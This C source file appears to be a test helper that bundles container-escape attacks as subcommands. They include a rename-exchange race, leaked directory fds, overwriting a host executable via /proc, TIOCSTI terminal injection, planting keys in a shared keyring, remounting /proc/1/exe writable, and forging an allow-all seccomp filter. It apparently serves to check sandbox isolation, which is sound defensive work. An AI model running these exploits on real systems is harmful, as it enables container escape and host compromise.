/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What an attacker would bring along: small programs in one. Statically linked, as it runs on the
 * host and in images alike.
 *
 *	attack exchange A B              exchanges the two paths (RENAME_EXCHANGE) until killed
 *	attack leak N DIR COMMAND...     executes the command with fds 3 to N open on DIR, not
 *	                                 close-on-exec
 *	attack overwrite SECONDS         waits for processes that execute a foreign file, gets hold
 *	                                 of it, and appends to it once it may be written to
 *	attack peek SECONDS              waits for processes that are none of the image's and
 *	                                 reports what it reaches through /proc/PID
 *	attack see PID                   says what can be opened of another process
 *	attack self                      says what a program was given: fds, environment, auxiliary
 *	                                 vector, dumpability, signals
 *	attack type TEXT                 types the text into the terminal on standard input, and
 *	                                 says whether that controls us
 *	attack plant NAME                opens its session keyring, named so, to all, leaves a key
 *	                                 in it and stays
 *	attack keys                      says whether the session keyring holds a key that was
 *	                                 planted
 *	attack remount                   tries to make /proc/1/exe's mount writable
 *	attack forge-filter              looks through /proc/1/fd for memory, and writes a seccomp
 *	                                 filter there that allows everything
 *	attack exe                       says whether the file behind /proc/1/exe could be written
 *	                                 to: "writable", "read-only" or "unreachable"
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/keyctl.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int exchange(const char *a, const char *b)
{
	const struct timespec pause = { .tv_nsec = 20000 };

	for (;;) {
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
			return perror("exchange"), 1;
		nanosleep(&pause, NULL);
	}
}

static int leak(int last, const char *dir, char **command)
{
	int fd = open(dir, O_RDONLY | O_DIRECTORY);

	for (int i = 3; i <= last; i++)
		if (i != fd && dup2(fd, i) < 0)
			return perror("leak"), 1;
	execvp(command[0], command);
	return perror(command[0]), 1;
}

/* The file that the process executes, if it is none of ours: another file than /attack, and on
 * another file system or not in our tree. */
static int open_foreign(const char *pid, const struct stat *own)
{
	char path[64];
	struct stat st, root;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH);
	if (fd < 0)
		return -1;
	if (fstat(fd, &st) == 0 && !(st.st_dev == own->st_dev && st.st_ino == own->st_ino) &&
	    !(stat("/bin/busybox", &root) == 0 && st.st_dev == root.st_dev &&
	      st.st_ino == root.st_ino))
		return fd;
	close(fd);
	return -1;
}

static int overwrite_when_free(int fd, double end)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	while (now() < end) {
		int w = open(path, O_WRONLY | O_APPEND);

		if (w >= 0)
			return write(w, "overwritten", 11) == 11 ? 0 : 1;
		if (errno != ETXTBSY)
			return printf("held the file, but: %s\n", strerror(errno)), 1;
		usleep(1000);
	}
	puts("held the file, but it stayed busy");
	return 1;
}

static int for_each_process(int (*visit)(const char *pid, const struct stat *own), double end)
{
	struct stat own;

	if (stat("/proc/self/exe", &own) < 0)
		return -1;
	while (now() < end) {
		DIR *d = opendir("/proc");
		const struct dirent *e;

		while (d && (e = readdir(d))) {
			int r;

			if (!isdigit((unsigned char)e->d_name[0]) || atoi(e->d_name) == getpid())
				continue;
			r = visit(e->d_name, &own);
			if (r >= 0) {
				closedir(d);
				return r;
			}
		}
		if (d)
			closedir(d);
	}
	return -1;
}

static int overwrite(double seconds)
{
	double end = now() + seconds;
	int fd = for_each_process(open_foreign, end);

	if (fd < 0) {
		puts("no foreign file seen");
		return 1;
	}
	if (overwrite_when_free(fd, end + 3) == 0)
		puts("overwritten");
	return 0;
}

/* Whether the process goes by another name than the image's programs. A name can always be read, of
 * a dying process as well. */
static int is_foreign(const char *pid)
{
	static const char *const own[] = { "attack", "busybox", "true", "sh", "sleep" };
	char path[64], name[32] = "";
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	f = fopen(path, "re");
	if (!f)
		return 0;
	if (!fgets(name, sizeof(name), f))
		name[0] = '\0';
	fclose(f);
	name[strcspn(name, "\n")] = '\0';
	for (size_t i = 0; i < sizeof(own) / sizeof(*own); i++)
		if (strcmp(name, own[i]) == 0)
			return 0;
	return name[0] != '\0';
}

/* What of the process can be opened: names, with a blank behind each. */
static void open_parts(const char *pid, char *text, size_t size)
{
	static const char *const parts[] = { "exe",  "root/.", "cwd/.", "fd/0",    "fd/3",
					     "fd/4", "fd/5",   "fd/6",  "environ", "auxv",
					     "maps", "mem",    "ns/mnt" };

	text[0] = '\0';
	for (size_t i = 0; i < sizeof(parts) / sizeof(*parts); i++) {
		char path[64], byte;
		int fd;

		snprintf(path, sizeof(path), "/proc/%s/%s", pid, parts[i]);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		/* These can be opened by anybody, and are empty for whoever may not look. */
		if (fd >= 0 &&
		    ((strcmp(parts[i], "environ") != 0 && strcmp(parts[i], "auxv") != 0) ||
		     read(fd, &byte, 1) == 1))
			snprintf(text + strlen(text), size - strlen(text), "%s ", parts[i]);
		if (fd >= 0)
			close(fd);
	}
}

/* Stops the process, so that there is time to look at it. It counts only if it was foreign before
 * and after: it may be on its way to the image's program. */
static int peek_at(const char *pid, const struct stat *own)
{
	static char seen[1 << 22];
	int n = atoi(pid), reached;
	char text[256];

	(void)own;
	if (n <= 1 || n >= (int)sizeof(seen) || seen[n] > 40 || !is_foreign(pid))
		return -1;
	seen[n]++;
	kill(n, SIGSTOP);
	open_parts(pid, text, sizeof(text));
	reached = text[0] && is_foreign(pid);
	kill(n, SIGCONT);
	if (reached)
		printf("reached %s\n", text);
	return reached ? 0 : -1;
}

static int see(const char *pid)
{
	char text[256], path[64];
	char line[4096];
	FILE *f;

	open_parts(pid, text, sizeof(text));
	printf("opened: %s\n", text);
	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
	f = fopen(path, "re");
	if (f) {
		size_t length = fread(line, 1, sizeof(line), f);

		for (size_t i = 0; i < length; i++)
			if (line[i] != '\0')
				return puts("environment: not empty"), 0;
		fclose(f);
	}
	return 0;
}

static void say_signals(void)
{
	sigset_t blocked;
	int ignored = 0;

	sigprocmask(SIG_SETMASK, NULL, &blocked);
	for (int i = 1; i < 32; i++) {
		struct sigaction action;

		ignored += (sigaction(i, NULL, &action) == 0 && action.sa_handler == SIG_IGN) ||
			   sigismember(&blocked, i) == 1;
	}
	printf("signals blocked or ignored: %d\n", ignored);
}

static int say_self(void)
{
	DIR *d = opendir("/proc/self/fd");
	const struct dirent *e;
	int death = 0;

	printf("fds:");
	while (d && (e = readdir(d)))
		if (isdigit((unsigned char)e->d_name[0]) && atoi(e->d_name) != dirfd(d))
			printf(" %s", e->d_name);
	printf("\nenvironment:");
	for (char **v = environ; *v; v++)
		printf(" %.*s", (int)strcspn(*v, "="), *v);
	printf("\nprogram: %s\nsecure: %lu\n", (const char *)getauxval(AT_EXECFN),
	       getauxval(AT_SECURE));
	prctl(PR_GET_PDEATHSIG, &death);
	printf("dumpable: %d\ndeath signal: %d\n", prctl(PR_GET_DUMPABLE), death);
	say_signals();
	return 0;
}

static int type(const char *text)
{
	size_t n = 0;
	int fd = open("/dev/tty", O_RDWR);

	while (text[n] && ioctl(STDIN_FILENO, TIOCSTI, &text[n]) == 0)
		n++;
	if (fd >= 0)
		puts("controls");
	if (n > 0)
		puts("typed");
	return 0;
}

static int plant(const char *name)
{
	long keyring = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, name);

	if (keyring < 0 || syscall(SYS_keyctl, KEYCTL_SETPERM, keyring, 0x3f3f3f3f) < 0 ||
	    syscall(SYS_add_key, "user", "planted", "x", 1, keyring) < 0)
		return perror("plant"), 1;
	puts("planted");
	pause();
	return 0;
}

static int say_keys(void)
{
	puts(syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "planted", 0) >= 0
		     ? "found"
		     : "nothing");
	return 0;
}

static int remount(void)
{
	struct mount_attr clear = { .attr_clr = MOUNT_ATTR_RDONLY };
	int fd = open("/proc/1/exe", O_PATH), copy;
	char path[64];

	if (fd < 0)
		return perror("open"), 1;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (mount_setattr(fd, "", AT_EMPTY_PATH, &clear, sizeof(clear)) == 0)
		puts("mount_setattr");
	if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		puts("remount");
	copy = open_tree(fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
	if (copy >= 0 && mount_setattr(copy, "", AT_EMPTY_PATH, &clear, sizeof(clear)) == 0)
		puts("copy");
	return 0;
}

static int forge_filter(void)
{
	const struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	DIR *d = opendir("/proc/1/fd");
	const struct dirent *e;
	int forged = 0;

	if (!d)
		return perror("/proc/1/fd"), 1;
	while ((e = readdir(d))) {
		char path[300], target[256];
		ssize_t n;
		int fd;

		snprintf(path, sizeof(path), "/proc/1/fd/%s", e->d_name);
		n = readlink(path, target, sizeof(target) - 1);
		if (n <= 0)
			continue;
		target[n] = '\0';
		if (strncmp(target, "/memfd:", 7) != 0)
			continue;
		fd = open(path, O_RDWR);
		if (fd >= 0 && pwrite(fd, &allow, sizeof(allow), 0) == sizeof(allow))
			forged++;
		else
			printf("%s: %s\n", target, strerror(errno));
	}
	printf("forged %d\n", forged);
	return 0;
}

static int say_exe(void)
{
	struct stat own;
	struct statvfs fs;
	int fd = stat("/proc/self/exe", &own) < 0 ? -1 : open_foreign("1", &own);
	int seals;

	if (fd < 0)
		return puts("unreachable"), 0;
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	int readable = open(path, O_RDONLY);
	seals = readable < 0 ? -1 : fcntl(readable, F_GET_SEALS);
	if ((fstatvfs(fd, &fs) == 0 && (fs.f_flag & ST_RDONLY)) ||
	    (seals > 0 && (seals & F_SEAL_WRITE)))
		return puts("read-only"), 0;
	return puts("writable"), 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(what, "exchange") == 0 && argc == 4)
		return exchange(argv[2], argv[3]);
	if (strcmp(what, "leak") == 0 && argc > 4)
		return leak(atoi(argv[2]), argv[3], argv + 4);
	if (strcmp(what, "overwrite") == 0 && argc == 3)
		return overwrite(atof(argv[2]));
	if (strcmp(what, "peek") == 0 && argc == 3)
		return for_each_process(peek_at, now() + atof(argv[2])) == 0
			       ? 0
			       : (puts("nothing reached"), 0);
	if (strcmp(what, "see") == 0 && argc == 3)
		return see(argv[2]);
	if (strcmp(what, "self") == 0)
		return say_self();
	if (strcmp(what, "type") == 0 && argc == 3)
		return type(argv[2]);
	if (strcmp(what, "plant") == 0 && argc == 3)
		return plant(argv[2]);
	if (strcmp(what, "keys") == 0)
		return say_keys();
	if (strcmp(what, "remount") == 0)
		return remount();
	if (strcmp(what, "forge-filter") == 0)
		return forge_filter();
	if (strcmp(what, "exe") == 0)
		return say_exe();
	fprintf(stderr, "attack: see the top of attack.c\n");
	return 2;
}
